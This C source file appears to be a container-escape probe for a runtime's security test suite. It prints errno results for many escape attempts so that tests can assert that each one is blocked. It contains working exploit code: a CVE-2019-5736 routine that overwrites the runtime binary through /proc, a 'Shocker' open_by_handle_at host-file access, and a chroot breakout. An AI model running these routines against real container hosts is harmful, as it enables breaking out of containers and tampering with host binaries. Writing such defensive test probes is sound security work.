/* escape-probe: container-escape attempts for berth's security suite (test/security).
 * Statically linked: it runs inside the tests' busybox root filesystems.
 *
 * Every attack is one sub-command; each step it tries prints one line
 *
 *     <step>: OK [detail]          the call succeeded
 *     <step>: <ERRNO> <n> [detail] the call failed, e.g. "keyctl: EPERM 1"
 *
 * and the probe exits 0 once it has tried (2 for a usage error), so the test asserts on the
 * errno, not on an exit status. The probe never does anything destructive to the host on
 * purpose: reboot, kexec, clock and module calls use invalid arguments that the kernel
 * rejects after its permission checks (so EINVAL/EBADF/... = "the call got through seccomp
 * and capabilities", EPERM = "blocked"); sysctl and sysrq files are opened, never written.
 *
 *   remount <path> [bind]        mount(NULL, path, NULL, MS_REMOUNT[|MS_BIND]) (read-write)
 *   openw <path> [creat]         open(path, O_WRONLY[|O_CREAT]); never writes
 *   read <path>                  open + read(64); prints the byte count
 *   mount <src> <dir> <type> [data] [file]
 *                                mkdir dir, mount, access(dir/file, W_OK), umount
 *   init_module                  init_module(NULL, 0, "")      (refused before loading anything)
 *   finit_module                 finit_module(-1, "", 0)
 *   rawsock                      socket(AF_INET, SOCK_RAW, IPPROTO_ICMP), socket(AF_PACKET, SOCK_RAW)
 *   vsock-alg                    socket(AF_VSOCK), socket(AF_ALG) (created, never used)
 *   io_uring                     io_uring_setup(1, ...)
 *   unshare <U|m|...>            unshare(CLONE_NEW*) (letters as unshare(1): U m n i u p C T)
 *   clone <U|m|...>              clone(CLONE_NEW*|SIGCHLD) the child exits at once
 *   clone3 <U|m|...>             clone3({.flags = CLONE_NEW*})
 *   setns <path>                 open(path) + setns(fd, 0)
 *   mknod <path> <b|c> <maj> <min>  mknod, open O_RDONLY, read 512, unlink
 *   exe-attack <pid> [wait-ms]   CVE-2019-5736 against /proc/<pid>/exe (see exe_attack)
 *   hunt <ms> [own-exe...]       CVE-2019-5736, racing: every foreign process's exe (see hunt)
 *   name-to-handle <path>        (host side) prints "handle: OK <type> <hex>"
 *   open-by-handle <type> <hex> [mountpoint]  open_by_handle_at ("shocker"); lists the dir
 *   keyctl                       keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)
 *   bpf                          bpf(BPF_MAP_CREATE, 1-entry array)
 *   perf                         perf_event_open(task clock, this process, user only)
 *   userfaultfd                  userfaultfd(O_CLOEXEC) (kernel-mode faults: the exploit kind)
 *   reboot                       reboot(0xdeadbeef, ...)  invalid magic: EINVAL once permitted
 *   kexec                        kexec_load(0, KEXEC_SEGMENT_MAX + 1, NULL, 0): EINVAL once permitted
 *   clock_settime                clock_settime(1000, ...) (invalid clock: EINVAL once permitted)
 *   settimeofday                 settimeofday(NULL, NULL) (a no-op when permitted)
 *   syslog                       klogctl(SYSLOG_ACTION_SIZE_BUFFER)
 *   fsopen                       fsopen("tmpfs", 0) (new mount API)
 *   ptrace <pid> [seize]         PTRACE_ATTACH (or PTRACE_SEIZE), then detach
 *   ls <dir>                     "listing: OK a,b,c" (the names in dir)
 *   umount <path>                umount2(path, MNT_DETACH) (e.g. unmasking a masked path)
 *   chroot-breakout              mkdir, chroot, chdir(".." x 32), chroot(".") and lists /
 *   fds                          every open fd of this process and its target
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <linux/if_ether.h>
#include <time.h>
#include <unistd.h>

static void result(const char *step, long rc, const char *fmt, ...) __attribute__((format(printf, 3, 4)));

/* Prints "<step>: OK [detail]" when rc >= 0, "<step>: <ENAME> <n> [detail]" otherwise (errno). */
static void result(const char *step, long rc, const char *fmt, ...)
{
	int e = errno;
	char detail[512] = "";
	if (fmt) {
		va_list ap;
		va_start(ap, fmt);
		vsnprintf(detail, sizeof detail, fmt, ap);
		va_end(ap);
	}
	if (rc >= 0) {
		printf("%s: OK%s%s\n", step, detail[0] ? " " : "", detail);
	} else {
		const char *name = strerrorname_np(e);
		printf("%s: %s %d%s%s\n", step, name ? name : "E?", e, detail[0] ? " " : "", detail);
	}
	fflush(stdout);
	errno = e;
}

static int ns_flags(const char *letters)
{
	int f = 0;
	for (const char *c = letters; *c; c++) {
		switch (*c) {
		case 'U': f |= CLONE_NEWUSER; break;
		case 'm': f |= CLONE_NEWNS; break;
		case 'n': f |= CLONE_NEWNET; break;
		case 'i': f |= CLONE_NEWIPC; break;
		case 'u': f |= CLONE_NEWUTS; break;
		case 'p': f |= CLONE_NEWPID; break;
		case 'C': f |= CLONE_NEWCGROUP; break;
		case 'T': f |= CLONE_NEWTIME; break;
		default: fprintf(stderr, "escape-probe: unknown namespace letter %c\n", *c); exit(2);
		}
	}
	return f;
}

/* open(path, O_WRONLY[|O_CREAT]); the fd is closed again without writing a byte. */
static void openw(const char *path, int creat)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | (creat ? O_CREAT : 0), 0600);
	result("openw", fd, "%s", path);
	if (fd >= 0)
		close(fd);
}

static void do_read(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	result("open", fd, "%s", path);
	if (fd < 0)
		return;
	char buf[64];
	ssize_t n = read(fd, buf, sizeof buf);
	result("read", n, "%zd bytes", n);
	close(fd);
}

static void do_mount(int argc, char **argv)
{
	const char *src = argv[0], *dir = argv[1], *type = argv[2];
	const char *data = argc > 3 && argv[3][0] ? argv[3] : NULL;
	const char *file = argc > 4 ? argv[4] : NULL;
	if (mkdir(dir, 0755) < 0 && errno != EEXIST)
		result("mkdir", -1, "%s", dir);
	long rc = mount(src, dir, type, MS_NOSUID | MS_NODEV | MS_NOEXEC, data);
	result("mount", rc, "%s on %s type %s", src, dir, type);
	if (rc < 0)
		return;
	if (file) {
		char p[4096];
		snprintf(p, sizeof p, "%s/%s", dir, file);
		/* Only access(2): the release_agent of a host hierarchy must never be written. */
		result("writable", access(p, W_OK), "%s", p);
	}
	result("umount", umount2(dir, MNT_DETACH), "%s", dir);
}

static void do_mknod(const char *path, const char *kind, const char *maj, const char *min)
{
	mode_t type = kind[0] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t dev = makedev((unsigned)strtoul(maj, NULL, 0), (unsigned)strtoul(min, NULL, 0));
	unlink(path);
	long rc = mknod(path, type | 0600, dev);
	result("mknod", rc, "%s %s %s:%s", path, kind, maj, min);
	if (rc < 0)
		return;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	result("open", fd, "%s", path);
	if (fd >= 0) {
		char buf[512];
		ssize_t n = read(fd, buf, sizeof buf);
		/* The first bytes, printable, so a test can recognise a marker it wrote. */
		char shown[33];
		int k = 0;
		for (ssize_t i = 0; n > 0 && i < n && k < 32; i++)
			shown[k++] = (buf[i] >= 0x20 && buf[i] < 0x7f) ? buf[i] : '.';
		shown[k] = 0;
		result("read", n, "%s", shown);
		close(fd);
	}
	unlink(path);
}

static void list_dir_fd(const char *step, int dfd)
{
	int dup = fcntl(dfd, F_DUPFD_CLOEXEC, 0);
	DIR *d = dup >= 0 ? fdopendir(dup) : NULL;
	if (!d) {
		result(step, -1, NULL);
		return;
	}
	char names[3000] = "";
	size_t used = 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
			continue;
		int n = snprintf(names + used, sizeof names - used, "%s%s", used ? "," : "", e->d_name);
		if (n < 0 || (size_t)n >= sizeof names - used)
			break;
		used += (size_t)n;
	}
	closedir(d);
	result(step, 0, "%s", names);
}

static int64_t now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void do_ptrace(pid_t pid, int seize)
{
	long rc = ptrace(seize ? PTRACE_SEIZE : PTRACE_ATTACH, pid, NULL, NULL);
	result(seize ? "ptrace-seize" : "ptrace-attach", rc, "pid %d", (int)pid);
	if (rc < 0)
		return;
	if (!seize) {
		int st;
		waitpid(pid, &st, __WALL);
	}
	/* A seized tracee is not stopped, so it cannot be detached: our exit detaches it. */
	if (!seize)
		result("ptrace-detach", ptrace(PTRACE_DETACH, pid, NULL, NULL), "pid %d", (int)pid);
}

/* CVE-2019-5736 from inside: <pid> is a process whose executable is the runtime (berth's
 * stage, e.g. PID 1 of a created container, which waits for `start`).
 *  1. open /proc/<pid>/exe for writing (and write, if that worked): the running binary;
 *  2. keep an O_PATH fd to it, wait until <pid> has exec'd the container's process (the
 *     runtime binary is then no longer running, so ETXTBSY no longer applies) and reopen the
 *     fd for writing through /proc/self/fd/N, as the published exploits do, then write;
 *  3. the runtime process's fds, cwd and root (a host directory there would be an escape),
 *     and ptrace (PTRACE_SEIZE: does not stop it). */
static void exe_attack(pid_t pid, int wait_ms)
{
	char p[256], link[4096];
	snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
	ssize_t n = readlink(p, link, sizeof link - 1);
	link[n > 0 ? n : 0] = 0;
	result("exe", n, "%s", link);
	static const char payload[] = "#!/bin/sh\necho pwned by escape-probe\n";

	int fd = open(p, O_WRONLY | O_CLOEXEC);
	result("open-exe-w", fd, "%s", p);
	if (fd >= 0) {
		result("write-exe", write(fd, payload, sizeof payload - 1), NULL);
		close(fd);
	}
	int pfd = open(p, O_PATH | O_CLOEXEC);
	result("open-exe-path", pfd, "%s", p);

	snprintf(p, sizeof p, "/proc/%d/fd", (int)pid);
	DIR *d = opendir(p);
	result("fds", d ? 0 : -1, "%s", p);
	if (d) {
		struct dirent *e;
		while ((e = readdir(d))) {
			if (e->d_name[0] == '.')
				continue;
			char fp[512], t[4096];
			snprintf(fp, sizeof fp, "%s/%s", p, e->d_name);
			ssize_t k = readlink(fp, t, sizeof t - 1);
			t[k > 0 ? k : 0] = 0;
			result("fd", k, "%s -> %s", e->d_name, t);
			int ofd = open(fp, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
			if (ofd >= 0) {
				struct stat st;
				fstat(ofd, &st);
				if (S_ISDIR(st.st_mode)) {
					list_dir_fd("fd-dir", ofd);
				}
				close(ofd);
			}
		}
		closedir(d);
	}
	for (const char *what = "cwd"; what; what = strcmp(what, "cwd") ? NULL : "root") {
		char wp[256], t[4096];
		snprintf(wp, sizeof wp, "/proc/%d/%s", (int)pid, what);
		ssize_t k = readlink(wp, t, sizeof t - 1);
		t[k > 0 ? k : 0] = 0;
		result(what, k, "%s", t);
	}
	do_ptrace(pid, 1);

	if (pfd < 0 || wait_ms <= 0)
		return;
	/* ready: the test starts the container now */
	printf("waiting: %d\n", wait_ms);
	fflush(stdout);
	snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
	int64_t deadline = now_ms() + wait_ms;
	for (;;) {
		char now[4096];
		ssize_t k = readlink(p, now, sizeof now - 1);
		now[k > 0 ? k : 0] = 0;
		if (k < 0 || strcmp(now, link) != 0) {
			result("exec-seen", k, "%s", now);
			break;
		}
		if (now_ms() > deadline) {
			errno = ETIMEDOUT;
			result("exec-seen", -1, NULL);
			break;
		}
		usleep(2000);
	}
	char via[64];
	snprintf(via, sizeof via, "/proc/self/fd/%d", pfd);
	fd = open(via, O_WRONLY | O_CLOEXEC);
	result("reopen-exe-w", fd, "%s", via);
	if (fd >= 0) {
		result("write-exe-after-exec", write(fd, payload, sizeof payload - 1), NULL);
		close(fd);
	}
	/* Truncating, too: an O_TRUNC open is what the published exploit does. */
	fd = open(via, O_WRONLY | O_TRUNC | O_CLOEXEC);
	result("reopen-exe-trunc", fd, "%s", via);
	if (fd >= 0)
		close(fd);
}

/* CVE-2019-5736 the racy way, as the published exploit: scan /proc for <ms> milliseconds for
 * processes that are not running the container's own binaries (the runtime joining the
 * container for an exec, or the runtime re-executed through "#!/proc/self/exe"), try to open
 * their exe for writing at once, and keep an O_PATH fd to reopen for writing once they are
 * gone. Prints one "seen" line per such process (its exe, or the errno of readlink). */
static void hunt(int ms, const char *own1, const char *own2)
{
	enum { MAX = 64 };
	int kept[MAX], nkept = 0, seen = 0;
	static char done[1 << 16];
	static const char payload[] = "#!/bin/sh\necho pwned by escape-probe\n";
	pid_t self = getpid();
	int64_t deadline = now_ms() + ms;
	printf("hunting: %d\n", ms);
	fflush(stdout);
	while (now_ms() < deadline) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == self || pid >= (int)sizeof done || done[pid])
				continue;
			char p[64], link[4096];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			ssize_t n = readlink(p, link, sizeof link - 1);
			link[n > 0 ? n : 0] = 0;
			if (n >= 0 && (!strcmp(link, own1) || !strcmp(link, own2)))
				continue;
			if (n < 0 && errno == ENOENT)
				continue; /* gone, or a kernel thread */
			done[pid] = 1;
			seen++;
			result("seen", n, "pid %d exe %s", pid, link);
			int fd = open(p, O_WRONLY | O_CLOEXEC);
			result("open-exe-w", fd, "pid %d", pid);
			if (fd >= 0) {
				result("write-exe", write(fd, payload, sizeof payload - 1), "pid %d", pid);
				close(fd);
			}
			int pfd = open(p, O_PATH | O_CLOEXEC);
			result("open-exe-path", pfd, "pid %d", pid);
			if (pfd >= 0 && nkept < MAX)
				kept[nkept++] = pfd;
			else if (pfd >= 0)
				close(pfd);
		}
		if (d)
			closedir(d);
	}
	for (int i = 0; i < nkept; i++) {
		char via[64];
		snprintf(via, sizeof via, "/proc/self/fd/%d", kept[i]);
		int fd = open(via, O_WRONLY | O_CLOEXEC);
		result("reopen-exe-w", fd, "%s", via);
		if (fd >= 0) {
			result("write-exe-later", write(fd, payload, sizeof payload - 1), NULL);
			close(fd);
		}
	}
	printf("hunted: %d seen, %d exe fds kept\n", seen, nkept);
	fflush(stdout);
}

static int hexval(char c)
{
	return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
}

static void name_to_handle(const char *path)
{
	struct file_handle *fh = calloc(1, sizeof *fh + MAX_HANDLE_SZ);
	fh->handle_bytes = MAX_HANDLE_SZ;
	int mnt;
	long rc = name_to_handle_at(AT_FDCWD, path, fh, &mnt, 0);
	if (rc < 0) {
		result("handle", rc, "%s", path);
		return;
	}
	const unsigned char *b = (const unsigned char *)(fh + 1);
	char hex[2 * MAX_HANDLE_SZ + 1] = "";
	for (unsigned i = 0; i < fh->handle_bytes; i++)
		sprintf(hex + 2 * i, "%02x", b[i]);
	result("handle", 0, "%d %s", fh->handle_type, hex);
	free(fh);
}

/* "Shocker": open a file by a handle the attacker crafted (here: the host's root directory,
 * computed on the host), relative to any fd on the same filesystem. Needs CAP_DAC_READ_SEARCH. */
static void open_by_handle(const char *type, const char *hex, const char *mp)
{
	size_t len = strlen(hex) / 2;
	if (len > MAX_HANDLE_SZ) {
		fprintf(stderr, "escape-probe: handle too long\n");
		exit(2);
	}
	struct file_handle *fh = calloc(1, sizeof *fh + MAX_HANDLE_SZ);
	unsigned char *b = (unsigned char *)(fh + 1);
	for (size_t i = 0; i < len; i++)
		b[i] = (unsigned char)(hexval(hex[2 * i]) << 4 | hexval(hex[2 * i + 1]));
	fh->handle_bytes = (unsigned)len;
	fh->handle_type = atoi(type);
	int mfd = open(mp, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0) {
		result("open-mountpoint", mfd, "%s", mp);
		return;
	}
	int fd = open_by_handle_at(mfd, fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) {
		result("open_by_handle_at", fd, NULL);
		return;
	}
	struct stat st;
	fstat(fd, &st);
	result("open_by_handle_at", fd, "ino %llu", (unsigned long long)st.st_ino);
	list_dir_fd("listing", fd);
	close(fd);
}

static void chroot_breakout(void)
{
	struct stat before, after;
	stat("/", &before);
	result("root-before", 0, "%llu:%llu", (unsigned long long)before.st_dev, (unsigned long long)before.st_ino);
	mkdir("/tmp/.breakout", 0700);
	long rc = chroot("/tmp/.breakout");
	result("chroot", rc, "/tmp/.breakout");
	if (rc < 0)
		return;
	for (int i = 0; i < 32; i++)
		if (chdir("..") < 0)
			break;
	result("chroot-dot", chroot("."), NULL);
	stat("/", &after);
	result("root-after", 0, "%llu:%llu", (unsigned long long)after.st_dev, (unsigned long long)after.st_ino);
	int dfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	list_dir_fd("listing", dfd);
	close(dfd);
	rmdir("/tmp/.breakout");
}

static void list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d) {
		result("fds", -1, NULL);
		return;
	}
	int self = dirfd(d);
	struct dirent *e;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == self)
			continue;
		char p[300], t[4096];
		snprintf(p, sizeof p, "/proc/self/fd/%s", e->d_name);
		ssize_t k = readlink(p, t, sizeof t - 1);
		t[k > 0 ? k : 0] = 0;
		result("fd", k, "%s -> %s", e->d_name, t);
	}
	closedir(d);
}

static int clone_child(void *arg)
{
	(void)arg;
	_exit(0);
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: escape-probe ATTACK [ARGS...] (see the source)\n");
		return 2;
	}
	const char *a = argv[1];
	int n = argc - 2;
	char **v = argv + 2;
#define NEED(k)                                                                   \
	do {                                                                      \
		if (n < (k)) {                                                    \
			fprintf(stderr, "escape-probe %s: needs %d arguments\n", a, (k)); \
			return 2;                                                 \
		}                                                                 \
	} while (0)

	if (!strcmp(a, "remount")) {
		NEED(1);
		unsigned long f = MS_REMOUNT | (n > 1 && !strcmp(v[1], "bind") ? MS_BIND : 0);
		result("remount", mount(NULL, v[0], NULL, f, NULL), "%s rw", v[0]);
	} else if (!strcmp(a, "openw")) {
		NEED(1);
		openw(v[0], n > 1 && !strcmp(v[1], "creat"));
	} else if (!strcmp(a, "read")) {
		NEED(1);
		do_read(v[0]);
	} else if (!strcmp(a, "mount")) {
		NEED(3);
		do_mount(n, v);
	} else if (!strcmp(a, "init_module")) {
		result("init_module", syscall(SYS_init_module, NULL, 0UL, ""), NULL);
	} else if (!strcmp(a, "finit_module")) {
		result("finit_module", syscall(SYS_finit_module, -1, "", 0), NULL);
	} else if (!strcmp(a, "rawsock")) {
		int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
		result("raw-inet", fd, NULL);
		if (fd >= 0)
			close(fd);
		fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
		result("raw-packet", fd, NULL);
		if (fd >= 0)
			close(fd);
	} else if (!strcmp(a, "vsock-alg")) {
		/* AF_VSOCK reaches the hypervisor's host, AF_ALG the kernel's crypto code: neither
		 * is namespaced. Created and closed, never connected or bound. */
		int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);
		result("vsock", fd, NULL);
		if (fd >= 0)
			close(fd);
		fd = socket(AF_ALG, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
		result("alg", fd, NULL);
		if (fd >= 0)
			close(fd);
	} else if (!strcmp(a, "io_uring")) {
		struct io_uring_params_min {
			uint32_t sq_entries, cq_entries, flags, sq_thread_cpu, sq_thread_idle, features, wq_fd, resv[3];
			uint64_t sq_off[5], cq_off[5];
		} params;
		memset(&params, 0, sizeof params);
		long fd = syscall(SYS_io_uring_setup, 1, &params);
		result("io_uring_setup", fd, NULL);
		if (fd >= 0)
			close((int)fd);
	} else if (!strcmp(a, "unshare")) {
		NEED(1);
		result("unshare", unshare(ns_flags(v[0])), "%s", v[0]);
	} else if (!strcmp(a, "clone")) {
		NEED(1);
		static char stack[64 * 1024] __attribute__((aligned(16)));
		pid_t pid = clone(clone_child, stack + sizeof stack, ns_flags(v[0]) | SIGCHLD, NULL);
		result("clone", pid, "%s", v[0]);
		if (pid > 0)
			waitpid(pid, NULL, 0);
	} else if (!strcmp(a, "clone3")) {
		NEED(1);
		struct clone_args ca = { .flags = (uint64_t)ns_flags(v[0]), .exit_signal = SIGCHLD };
		long pid = syscall(SYS_clone3, &ca, sizeof ca);
		if (pid == 0)
			_exit(0);
		result("clone3", pid, "%s", v[0]);
		if (pid > 0)
			waitpid((pid_t)pid, NULL, 0);
	} else if (!strcmp(a, "setns")) {
		NEED(1);
		int fd = open(v[0], O_RDONLY | O_CLOEXEC);
		result("open", fd, "%s", v[0]);
		if (fd >= 0)
			result("setns", setns(fd, 0), "%s", v[0]);
	} else if (!strcmp(a, "mknod")) {
		NEED(4);
		do_mknod(v[0], v[1], v[2], v[3]);
	} else if (!strcmp(a, "exe-attack")) {
		NEED(1);
		exe_attack((pid_t)atoi(v[0]), n > 1 ? atoi(v[1]) : 0);
	} else if (!strcmp(a, "hunt")) {
		NEED(1);
		hunt(atoi(v[0]), n > 1 ? v[1] : "/bin/busybox", n > 2 ? v[2] : "/bin/escape-probe");
	} else if (!strcmp(a, "name-to-handle")) {
		NEED(1);
		name_to_handle(v[0]);
	} else if (!strcmp(a, "open-by-handle")) {
		NEED(2);
		open_by_handle(v[0], v[1], n > 2 ? v[2] : "/");
	} else if (!strcmp(a, "keyctl")) {
		result("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0), NULL);
	} else if (!strcmp(a, "bpf")) {
		union bpf_attr attr;
		memset(&attr, 0, sizeof attr);
		attr.map_type = BPF_MAP_TYPE_ARRAY;
		attr.key_size = 4;
		attr.value_size = 4;
		attr.max_entries = 1;
		long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
		result("bpf", fd, "BPF_MAP_CREATE");
		if (fd >= 0)
			close((int)fd);
	} else if (!strcmp(a, "perf")) {
		struct perf_event_attr pa;
		memset(&pa, 0, sizeof pa);
		pa.size = sizeof pa;
		pa.type = PERF_TYPE_SOFTWARE;
		pa.config = PERF_COUNT_SW_TASK_CLOCK;
		pa.disabled = 1;
		pa.exclude_kernel = 1;
		pa.exclude_hv = 1;
		long fd = syscall(SYS_perf_event_open, &pa, 0, -1, -1, 0UL);
		result("perf_event_open", fd, NULL);
		if (fd >= 0)
			close((int)fd);
	} else if (!strcmp(a, "userfaultfd")) {
		long fd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
		result("userfaultfd", fd, NULL);
		if (fd >= 0)
			close((int)fd);
	} else if (!strcmp(a, "reboot")) {
		result("reboot", syscall(SYS_reboot, 0xdeadbeefUL, 0UL, 0UL, NULL), "invalid magic");
	} else if (!strcmp(a, "kexec")) {
		result("kexec_load", syscall(SYS_kexec_load, 0UL, 16UL + 1, NULL, 0UL), "too many segments");
	} else if (!strcmp(a, "clock_settime")) {
		struct timespec ts = { 0, 0 };
		result("clock_settime", syscall(SYS_clock_settime, 1000, &ts), "invalid clock id");
	} else if (!strcmp(a, "settimeofday")) {
		result("settimeofday", syscall(SYS_settimeofday, NULL, NULL), "NULL, NULL: a no-op");
	} else if (!strcmp(a, "syslog")) {
		result("syslog", klogctl(10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0), NULL);
	} else if (!strcmp(a, "fsopen")) {
		long fd = syscall(SYS_fsopen, "tmpfs", 0UL);
		result("fsopen", fd, "tmpfs");
		if (fd >= 0)
			close((int)fd);
	} else if (!strcmp(a, "ptrace")) {
		NEED(1);
		do_ptrace((pid_t)atoi(v[0]), n > 1 && !strcmp(v[1], "seize"));
	} else if (!strcmp(a, "ls")) {
		NEED(1);
		int dfd = open(v[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (dfd < 0)
			result("listing", dfd, "%s", v[0]);
		else
			list_dir_fd("listing", dfd);
	} else if (!strcmp(a, "umount")) {
		NEED(1);
		result("umount", umount2(v[0], MNT_DETACH), "%s", v[0]);
	} else if (!strcmp(a, "chroot-breakout")) {
		chroot_breakout();
	} else if (!strcmp(a, "fds")) {
		list_fds();
	} else {
		fprintf(stderr, "escape-probe: unknown attack %s\n", a);
		return 2;
	}
	return 0;
}
